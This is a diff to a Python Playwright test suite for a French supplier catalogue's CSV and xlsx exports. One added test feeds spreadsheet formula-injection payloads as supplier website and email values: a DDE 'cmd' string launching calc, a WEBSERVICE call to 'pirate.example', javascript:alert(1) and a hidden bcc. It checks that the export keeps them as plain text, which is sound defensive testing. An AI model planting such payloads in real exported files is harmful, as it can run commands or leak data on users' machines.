@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 from typing import Any
 from urllib.parse import parse_qs, unquote, urlsplit
@@ -82,14 +83,15 @@ def test_files_say_what_the_screen_says(site: str, visit: Open, tmp_path: Path, 
         ready(page)
         tab_to(page, "Choisir les lignes")
         page.keyboard.press("Enter")
-        for key in ("neq", "adresse", "fonction"):
+        for key in ("neq", "code_postal", "fonction"):
             page.locator(f"[data-columns] [name={key}]").focus()
             page.keyboard.press("Space")
         page.locator("[data-columns] [name=certifications]").focus()
         page.keyboard.press("Space")
         screen = shown_table(page)
         assert [row[0] for row in screen] == ["Entreprise", PRINTER[1], CLEANING[1], HOME_HELP[1], UNSURE[1]]
-        assert {"NEQ", "Adresse", "Courriel", "Téléphone"} <= set(screen[0])
+        assert {"NEQ", "Adresse", "Code postal", "Courriel", "Téléphone"} <= set(screen[0])
+        assert {"Prix indicatif", "Délai", "Capacité", "Conformité"} <= set(screen[0])
         assert "Certifications" not in screen[0]
 
         file = download(page, "csv")
@@ -102,7 +104,7 @@ def test_files_say_what_the_screen_says(site: str, visit: Open, tmp_path: Path, 
         sheet, cells = read_workbook(download(page, "xlsx"), tmp_path)
         assert cells == screen
         assert sheet.freeze_panes == "A2"
-        assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}
+        assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s", "d", "f"}
 
         page.reload()
         ready(page)
@@ -389,3 +391,69 @@ def test_the_writer_of_workbooks_comes_when_asked(site: str, visit: Open) -> Non
         assert not [url for url in asked if "workbook" in url]
         download(visited.page, "xlsx")
         assert [url for url in asked if "workbook" in url]
+
+
+def test_a_workbook_says_what_it_is(example: Project, site: str, visit: Open, tmp_path: Path) -> None:
+    """Numbers, days and links as such, a sheet « À propos », and a name that says the need and the date."""
+    with visit(site) as visited:
+        page = visited.page
+        visited.open("acheter/catalogue/?categorie=location-salles&pres=99503&rayon=100")
+        every_result(page)
+        with page.expect_download() as waiting:
+            page.locator("[data-catalogue-export=xlsx]").click()
+        file = waiting.value
+        assert re.fullmatch(r"location-de-salles-20\d\d-\d\d-\d\d\.xlsx", file.suggested_filename)
+        sheet, _ = read_workbook(file, tmp_path)
+    heads = [cell.value for cell in sheet[1]]
+    first = dict(zip(heads, sheet[2], strict=True))
+    assert first["Distance à vol d’oiseau (km)"].data_type == "n"
+    assert first["Fiche vérifiée"].is_date
+    assert first["Fiche"].value.startswith(f'=HYPERLINK("{site}entreprises/')
+    assert first["Courriel"].value.startswith('=HYPERLINK("mailto:')
+    assert sheet.freeze_panes == "A2"
+    about = sheet.parent["À propos"]
+    rows = [[cell.value for cell in row] for row in about.iter_rows(min_row=2)]
+    said = dict(reversed(rows))
+    assert said["Question"].startswith("Fournisseurs de location de salles à 100\u00a0km ou moins d’Exemple-les-Bains")
+    assert said["Filtres"] == "Location de salles; À 100\u00a0km ou moins d’Exemple-les-Bains"
+    assert said["Date des données"].isoformat().startswith("2026-11-02")
+    assert said["Fiches"] == catalogue(example.site)["version"]["fiches"]
+    assert site in said["Site"]
+    warned = " ".join(text for label, text in rows if label == "Mise en garde")
+    assert "À confirmer" in warned
+    assert "échéances" in warned
+    assert about.freeze_panes == "A2"
+
+
+def test_links_hold_no_other_formula(example: Project, site: str, visit: Open, tmp_path: Path) -> None:
+    data = catalogue(example.site)
+    firms = data["entreprises"]
+    rank = firms["slug"].index(PRINTER[0])
+    with visit(site) as visited:
+        page = visited.page
+        choose(page, PRINTER, CLEANING)
+        visited.open(SELECTION)
+        for website, mail in (
+            ("https://a.example/\");cmd|'/C calc'!A0;(\"", 'a@b.example",WEBSERVICE("https://pirate.example")'),
+            ("javascript:alert(1)", "a@b.example?bcc=pirate@pirate.example"),
+            ("https://a.example/" + "x" * 300, "=1+1"),
+            ("https://a.example/ un\ndeux", "a b@c.example"),
+        ):
+            firms["site_web"][rank], firms["courriel"][rank] = website, mail
+            page.unroute_all()
+            alter(page, data)
+            visited.open(SELECTION)
+            ready(page)
+            sheet, rows = read_workbook(download(page, "xlsx"), tmp_path)
+            for title, text in (("Site web", website), ("Courriel", mail)):
+                cell = sheet.cell(2, rows[0].index(title) + 1)
+                assert cell.data_type == "s", text
+                assert cell.value == text
+        firms["site_web"][rank] = "https://a.example/?a=1&b='x'"
+        page.unroute_all()
+        alter(page, data)
+        visited.open(SELECTION)
+        ready(page)
+        sheet, rows = read_workbook(download(page, "xlsx"), tmp_path)
+        cell = sheet.cell(2, rows[0].index("Site web") + 1)
+        assert cell.value == "=HYPERLINK(\"https://a.example/?a=1&b='x'\",\"https://a.example/?a=1&b='x'\")"
